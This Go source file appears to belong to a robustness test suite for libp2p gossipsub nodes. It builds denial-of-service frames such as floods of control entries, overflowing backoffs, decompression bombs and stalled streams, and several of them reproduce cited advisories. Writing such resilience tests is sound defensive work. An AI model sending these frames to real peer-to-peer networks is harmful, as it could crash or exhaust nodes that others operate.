package main

import (
	"encoding/binary"
	"math"
	"time"
)

const (
	million       = 1_000_000
	maxControl    = 512 << 10 // what a node takes of control in an RPC
	maxRPC        = 10 << 20
	ihave, iwant  = 1, 2
	graft, prune  = 3, 4
	idontwant     = 5
	extensions    = 6
	partial       = 10 // of an RPC
	control       = 3  // of an RPC
	published     = 2
	subscriptions = 1
)

func subscription(topic string) []byte {
	return field(subscriptions, append([]byte{8, 1}, field(2, []byte(topic))...))
}

func gossipMessage(topic string, contents []byte) []byte {
	return field(published, append(field(2, contents), field(4, []byte(topic))...))
}

// rpc is a case that subscribes and then sends the same frame again and again.
func rpc(contents func() []byte) func(*attack) error {
	return onStreams(gossip, func(t *stream) error {
		if err := t.write(lengthPrefixed(subscription(topic))); err != nil {
			return err
		}
		bytes := lengthPrefixed(contents())
		return t.session.again(func(int) error { return t.write(bytes) })
	})
}

// freshRPC is the same with other contents in each frame.
func freshRPC(contents func() []byte) func(*attack) error {
	return onStreams(gossip, func(t *stream) error {
		if err := t.write(lengthPrefixed(subscription(topic))); err != nil {
			return err
		}
		return t.session.again(func(int) error { return t.write(lengthPrefixed(contents())) })
	})
}

// aMillion is a case of 10^6 entries of a kind in one frame: they are above what is taken, so the node resets the stream.
func aMillion(kind uint64) torment {
	return torment{ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
		run: rpc(func() []byte { return field(control, repeat(field(kind, nil), million)) })}
}

// fill makes as many pieces as a node takes of control in one frame.
func fill(piece func() []byte) []byte {
	var out []byte
	for more := piece(); len(out)+len(more) < maxControl-1000; more = piece() {
		out = append(out, more...)
	}
	return out
}

// most is a case of as many entries as a node takes in one frame: they come to the router.
func most(hears string, entry func() []byte) torment {
	return torment{ends: endured, reaches: layerStream, written: maxControl, hears: hears,
		run: rpc(func() []byte { return field(control, fill(entry)) })}
}

// publishedFaults are what was found in other implementations: each case is one that has brought a router down, or made it grow.
var publishedFaults = map[string]torment{
	// GRAFT for topics that nobody has heard of, each of which made a table grow (GHSA-g3g5-x568-qvqx). The first GRAFT is for
	// the topic that the node is in: messages show that the router has read it.
	"gossip-graft-unknown-topics": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
		run: freshRPC(func() []byte {
			entry := func() []byte { return field(graft, field(1, noise(8))) }
			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
		})},
	// PRUNE for topics that the node never joined, each of which left a backoff behind (GHSA-vrx6-jcp8-vm7m).
	"gossip-prune-unknown-topics": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
		run: freshRPC(func() []byte {
			entry := func() []byte { return field(prune, append(field(1, noise(8)), backoff(60)...)) }
			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
		})},
	// A backoff that overflows the clock (CVE-2026-33040), then a GRAFT that looks at it. The node prunes in answer.
	"gossip-prune-longest-backoff": {ends: endured, reaches: layerStream, written: 10_000, hears: "prune",
		run: rpc(func() []byte { return field(control, longBackoffs(math.MaxUint64, math.MaxUint64/2, math.MaxInt64)) })},
	// Backoffs that fit into the clock's type, but no longer when slack is added to them at a heartbeat or for a GRAFT.
	"gossip-prune-backoff-beside-the-end-of-time": {ends: endured, reaches: layerStream, written: 10_000, hears: "prune",
		run: rpc(func() []byte {
			const seconds = math.MaxInt64 / 1_000_000_000
			return field(control, longBackoffs(seconds, seconds-1, seconds-2, seconds-60, seconds-3600, seconds/2))
		})},
	// Topics that nobody is in, subscribed to by peers that go at once: what stays of them is never cleared up (CVE-2026-46679).
	"gossip-subscribe-to-all-and-go": {ends: endured, reaches: layerStream, written: maxControl, run: subscribeAndGo},
	// IDONTWANT without end, which go-libp2p-pubsub bounds since 0.12 and rust-libp2p since 0.49.
	"gossip-million-idontwant": aMillion(idontwant),
	"gossip-most-idontwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
		run: freshRPC(func() []byte {
			entry := func() []byte { return field(idontwant, field(1, noise(20))) }
			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
		})},
	// Ids that all are in one entry, of every kind: 24 bytes of bookkeeping for two bytes on the wire (rust-libp2p 6486).
	"gossip-million-ids-of-idontwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
		run: rpc(func() []byte { return field(control, field(idontwant, repeat(field(1, []byte{7}), million))) })},
	"gossip-million-ids-of-iwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
		run: rpc(func() []byte { return field(control, field(iwant, repeat(field(1, []byte{7}), million))) })},
	// The extensions of v1.3 in every RPC: they may come in the first one only. The score is below the graylist threshold soon.
	"gossip-extensions-again": {ends: endured, reaches: layerStream, written: 10_000, hears: "prune", run: rpc(func() []byte {
		return field(control, append(field(graft, field(1, []byte(topic))), field(extensions, []byte{80, 1})...))
	})},
	// Partial messages to a node that does not speak them: groups without end, and parts beyond what control may take.
	"gossip-partial-groups": {ends: endured, reaches: layerStream, written: 10_000, hears: "messages", run: freshRPC(func() []byte {
		of := append(append(field(1, []byte(topic)), field(2, noise(32))...), field(4, noise(100))...)
		return append(field(control, field(graft, field(1, []byte(topic)))), field(partial, of)...)
	})},
	"gossip-partial-above-the-limit": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
		run: rpc(func() []byte { return field(partial, append(field(1, []byte(topic)), field(3, noise(4<<20))...)) })},
}

// backoff is the field of a PRUNE, in seconds.
func backoff(seconds uint64) []byte { return binary.AppendUvarint([]byte{3 << 3}, seconds) }

// longBackoffs prunes the node's topic for each of them, and asks to be taken in again.
func longBackoffs(seconds ...uint64) []byte {
	var out []byte
	for _, each := range seconds {
		out = append(out, field(prune, append(field(1, []byte(topic)), backoff(each)...))...)
		out = append(out, field(graft, field(1, []byte(topic)))...)
	}
	return out
}

// subscribeAndGo subscribes to as many topics as fit into a frame, and resets the stream.
var subscribeAndGo = overYamux(func(s *session) error {
	return s.again(func(int) error {
		t, err := s.open(gossip)
		if err != nil {
			return err
		}
		if err := t.write(lengthPrefixed(fill(func() []byte { return subscription(string(noise(8))) }))); err != nil && err != errReset {
			return err
		}
		s.mutex.Lock()
		delete(s.streams, t.id)
		s.mutex.Unlock()
		return s.send(frame(0, typeWindow, flagRST, t.id, 0, nil))
	})
})

var gossipCases = map[string]torment{
	"gossip-million-ihave": aMillion(ihave),
	"gossip-million-iwant": aMillion(iwant),
	"gossip-million-graft": aMillion(graft),
	"gossip-million-prune": aMillion(prune),
	"gossip-million-ids": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets", run: rpc(func() []byte {
		return field(control, field(ihave, append(field(1, []byte(topic)), repeat(field(2, []byte{7}), million)...)))
	})},
	"gossip-million-subscriptions": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
		run: rpc(func() []byte { return repeat(field(subscriptions, nil), million) })},
	"gossip-most-ihave": most("iwant", func() []byte { return field(ihave, append(field(1, []byte(topic)), field(2, noise(20))...)) }),
	"gossip-most-iwant": most("messages", func() []byte { return field(iwant, field(1, noise(20))) }),
	"gossip-most-graft": most("messages", func() []byte { return field(graft, field(1, []byte(topic))) }),
	"gossip-most-prune": most("", func() []byte {
		return field(prune, append(field(1, []byte(topic)), field(2, field(1, noise(38)))...))
	}),
	"gossip-graft-in-backoff": most("prune", func() []byte {
		return append(field(graft, field(1, []byte(topic))), field(prune, field(1, []byte(topic)))...)
	}),
	"gossip-subscribe-and-leave": {ends: endured, reaches: layerStream, written: maxControl, run: rpc(func() []byte {
		leave := field(subscriptions, append([]byte{8, 0}, field(2, []byte(topic))...))
		return repeat(append(leave, subscription(topic)...), (maxControl-1000)/len(leave)/2)
	})},
	"gossip-many-messages": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets", run: rpc(func() []byte {
		return fill(func() []byte { return gossipMessage(topic, noise(4)) })
	})},
	"gossip-most-subscriptions": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
		run: rpc(func() []byte {
			return fill(func() []byte { return subscription(string(noise(8))) })
		})},
	"gossip-oversized": {ends: endured, reaches: layerStream, hears: "resets", written: 1000,
		run: onStreams(gossip, func(t *stream) error {
			if err := t.write(binary.AppendUvarint(nil, 1<<40)); err != nil {
				return err
			}
			return t.session.again(func(int) error { return t.write(noise(1000)) })
		})},
	"gossip-message-above-the-limit": {ends: endured, reaches: layerStream, hears: "resets", written: 1000,
		run: rpc(func() []byte { return gossipMessage(topic, noise(maxRPC+1)) })},
	"gossip-largest-message": {ends: endured, reaches: layerStream, written: maxRPC,
		run: rpc(func() []byte { return gossipMessage(topic, noise(maxRPC-100)) })},
	"gossip-garbage": {ends: endured, reaches: layerStream, hears: "resets", written: 1000, run: rpc(func() []byte { return noise(1000) })},
	"gossip-other-topics": {ends: endured, reaches: layerStream, written: 100_000,
		run: rpc(func() []byte { return gossipMessage("/no/such/topic", noise(1000)) })},
	"gossip-snappy-bomb": {ends: endured, reaches: layerStream, written: 100_000, run: rpc(func() []byte {
		return gossipMessage(topic, append(binary.AppendUvarint(nil, 1<<30), noise(100)...))
	})},
	"gossip-same-again": {ends: endured, reaches: layerStream, written: 100_000,
		run: rpc(func() []byte { return gossipMessage(topic, noise(100_000)) })},
	"gossip-always-new": {ends: endured, reaches: layerStream, written: 100_000, run: onStreams(gossip, func(t *stream) error {
		return t.session.again(func(int) error { return t.write(lengthPrefixed(gossipMessage(topic, noise(10_000)))) })
	})},
	"gossip-byte-a-second": {ends: endured, reaches: layerStream, written: 300, run: onStream(gossip, func(t *stream) error {
		return t.session.slowly(300*time.Millisecond, func(int) error { return t.write([]byte{200}) })
	})},
	"gossip-ask-again-and-not-read": {ends: endured, reaches: layerStream, hears: "messages", written: 100_000, run: askAndNotRead},
}

// askAndNotRead listens until it knows what the node has, and then asks for all of it, again and again, without reading.
var askAndNotRead = onStream(gossip, func(t *stream) error {
	s := t.session
	if err := t.write(lengthPrefixed(subscription(topic))); err != nil {
		return err
	}
	s.mutex.Lock()
	err := s.wait(func() bool { return len(s.ids) >= 5 })
	var wanted []byte
	for _, id := range s.ids {
		wanted = append(wanted, field(1, id)...)
	}
	s.deaf = true
	s.mutex.Unlock()
	if err != nil {
		return err
	}
	bytes := lengthPrefixed(field(control, field(iwant, wanted)))
	return s.again(func(int) error { return t.write(bytes) }) // until there is no more credit
})
